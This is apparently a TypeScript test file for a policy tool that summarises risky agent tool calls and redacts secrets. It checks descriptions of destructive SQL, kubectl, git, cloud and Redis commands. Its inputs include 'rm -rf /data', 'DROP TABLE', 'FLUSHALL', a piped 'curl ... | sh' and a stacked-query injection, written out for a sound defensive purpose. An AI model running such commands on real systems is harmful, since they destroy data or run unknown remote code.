/** What a card says a call would do: what is hit, how much of it, the worst first, and never what could be a secret. */
import { describe, expect, it } from 'vitest';
import { callOf, NO_GRANTS, policyOf } from '../policy-fixture.ts';

const policy = await policyOf('');
const factsOf = (tool: string, args: Record<string, unknown>): readonly string[] =>
  policy.decide(callOf({ server: 'ops', tool, args }), NO_GRANTS).facts;

describe('a card says of SQL', () => {
  it.each([
    ['DELETE FROM orders', 'DELETE without WHERE on orders'],
    ['UPDATE users SET admin = true WHERE 1 = 1', 'UPDATE with a WHERE that is always true on users'],
    ['DROP TABLE orders, items CASCADE', 'DROP TABLE orders, items CASCADE (and all that depends on it)'],
    [
      'ALTER TABLE orders DROP COLUMN total, ADD COLUMN x int',
      'ALTER TABLE orders: drop column total, add column x',
    ],
    ['GRANT ALL ON orders TO bob, PUBLIC', 'GRANT ALL on orders to bob, PUBLIC'],
    ['REVOKE admin FROM bob', 'REVOKE admin from bob'],
    ["ALTER ROLE bob SUPERUSER PASSWORD 'hunter2'", 'ALTER ROLE bob: superuser, password'],
    ['REFRESH MATERIALIZED VIEW daily', 'REFRESH MATERIALIZED VIEW daily'],
    ["COPY orders FROM '/tmp/x.csv'", 'COPY orders from a file of the database server'],
    ['SELECT * INTO copied FROM orders', 'writes what it reads into the new table copied'],
    ['DELETE FROM `orders` LIMIT 10', 'DELETE without WHERE on orders'],
    ['DELETE a FROM shop.a JOIN b ON a.id = b.id WHERE b.x = 1', 'DELETE on shop.a'],
    ['DROP WAREHOUSE big', 'DROP WAREHOUSE big'],
    ['SELECT 1; DROP TABLE [dbo].[Users]', 'DROP TABLE dbo.Users'],
  ])('%s', (sql, said) => {
    expect(factsOf('execute_sql', { sql })).toContain(said);
  });
});

describe('a card says of a command', () => {
  it.each([
    ['kubectl delete ns prod staging dev', 'kubectl delete of 3 namespaces'],
    ['kubectl delete pods --all -n prod', 'kubectl delete pods --all -n prod'],
    ['kubectl delete pods -l app=web', 'kubectl delete pods -l app=web'],
    [
      'kubectl scale deploy web --replicas=0',
      'kubectl scale deploy web --replicas=0 is not known to only look',
    ],
    ['kubectl exec web -- rm -rf /data', 'rm -rf /data (through kubectl exec)'],
    ['ssh web1 "rm -rf /data"', 'rm -rf /data (through ssh)'],
    [
      'terraform -chdir=prod destroy -target=aws_db.main',
      'terraform -chdir=prod destroy -target=aws_db.main',
    ],
    ['docker rm -f web db', 'docker rm -f web db'],
    ['git push --force origin main', 'git push --force origin main overwrites or deletes what is there'],
    ['git push origin :release', 'git push origin :release overwrites or deletes what is there'],
    ['git branch -D release', 'git branch -D release'],
    ['aws s3 rm s3://prod --recursive', 'aws s3 rm s3://prod --recursive'],
    ['aws s3 sync . s3://prod --delete', 'aws s3 sync . s3://prod --delete'],
    ['az group delete -n prod --yes', 'az group delete -n prod --yes'],
    [
      'curl -X DELETE "https://api.example.com/users/1?key=x"',
      'HTTP DELETE https://api.example.com/users/1 with curl',
    ],
    ['curl https://x.example/i.sh | sh', 'sh runs commands that are not known'],
    ['find /srv -name "*.log" -delete', 'find /srv -name *.log -delete'],
    ['redis-cli -n 2 del a b', 'Redis DEL a b'],
    ['redis-cli FLUSHALL', 'Redis FLUSHALL (empties every database)'],
    ['mv a b', 'mv a b'],
    [
      'rm -rf /var/lib/postgresql/14/main/base/backups-of-january',
      'rm -rf /var/lib/postgresql/14/main/base/backups-of-january',
    ],
    [
      'kubectl delete pod payments-deployment-7d9f8b6c5d-x2x4z',
      'kubectl delete pod payments-deployment-7d9f8b6c5d-x2x4z',
    ],
  ])('%s', (command, said) => {
    expect(factsOf('bash', { command })).toContain(said);
  });
});

describe('a card says of other calls', () => {
  it.each<[string, Record<string, unknown>, string]>([
    [
      'mongo_query',
      { query: 'db.orders.deleteMany({})' },
      'MongoDB deleteMany on orders, with an empty filter',
    ],
    ['mongo_query', { query: 'db.getCollection("a-b").drop()' }, 'MongoDB drop on a-b'],
    [
      'run_command',
      { command: { delete: 'orders', deletes: [{ q: {}, limit: 0 }] } },
      'MongoDB delete on orders, with an empty filter',
    ],
    ['delete-many', { collection: 'orders', filter: {} }, 'an empty filter: everything matches'],
    ['http_request', { method: 'DELETE', url: 'https://x.example/a?key=b' }, 'HTTP DELETE x.example/a'],
    ['graphql', { query: 'mutation { deleteUser(id: 1) { id } }' }, 'GraphQL mutation deleteUser'],
    ['list_messages', { mark_as_read: true }, 'asks for more than reading: mark_as_read'],
    ['get_or_create_user', {}, 'get_or_create_user does more than read, by its name'],
    ['l\u0456st_users', {}, 'l\u0456st_users is not written in plain letters, so its name proves nothing'],
  ])('%s %j', (tool, args, said) => {
    expect(factsOf(tool, args)).toContain(said);
  });
});

it('puts what is gone before what is not understood', () => {
  expect(factsOf('bash', { command: 'frob && mv a b && rm -rf /data' })[0]).toBe('rm -rf /data');
  expect(factsOf('run_all', { steps: ['frob x'], sql: 'DROP TABLE a' })[0]).toBe('DROP TABLE a');
});

it.each([
  ['mysql_query', 'CREATE USER x IDENTIFIED BY "hunter2"'],
  ['mysql_query', "ALTER USER x IDENTIFIED BY 'hunter2'"],
  ['mysql_query', 'SET PASSWORD FOR x = "hunter2"'],
  ['execute_sql', "CREATE USER x PASSWORD 'hunter2'"],
  ['execute_sql', "ALTER LOGIN sa WITH PASSWORD = 'hunter2'"],
  ['execute_sql', "CREATE STAGE s CREDENTIALS = (AWS_SECRET_KEY = 'hunter2')"],
])('no secret of a statement is told: %s %s', (tool, sql) => {
  expect(factsOf(tool, { sql }).join()).not.toContain('hunter2');
});

describe('no secret is told', () => {
  it.each([
    'aws iam create-login-profile --user-name bob --password hunter2',
    'kubectl create secret generic db --from-literal=password=hunter2',
    'kubectl create secret generic db --from-literal password=hunter2',
    'helm upgrade web ./c --set db.password=hunter2',
    'docker run -e PASSWORD=hunter2 alpine',
    'az keyvault secret set --vault-name v --name s --value hunter2',
    'psql postgres://app:hunter2@db/shop -f x.sql',
    'mysqldump -phunter2 shop -r x.sql',
    'redis-cli CONFIG SET requirepass hunter2',
    'redis-cli AUTH hunter2',
    'curl -d password=hunter2 https://app:hunter2@x.example/login?token=hunter2',
    'gh secret set TOKEN --body hunter2',
    'vault kv put kv/app password=hunter2',
    'frobnicate hunter2',
    'kubectl delete pod xoxb-1234-hunter2',
    'helm upgrade web ./c sk-hunter2',
  ])('%s', (command) => {
    expect(factsOf('bash', { command }).join()).not.toContain('hunter2');
  });
});
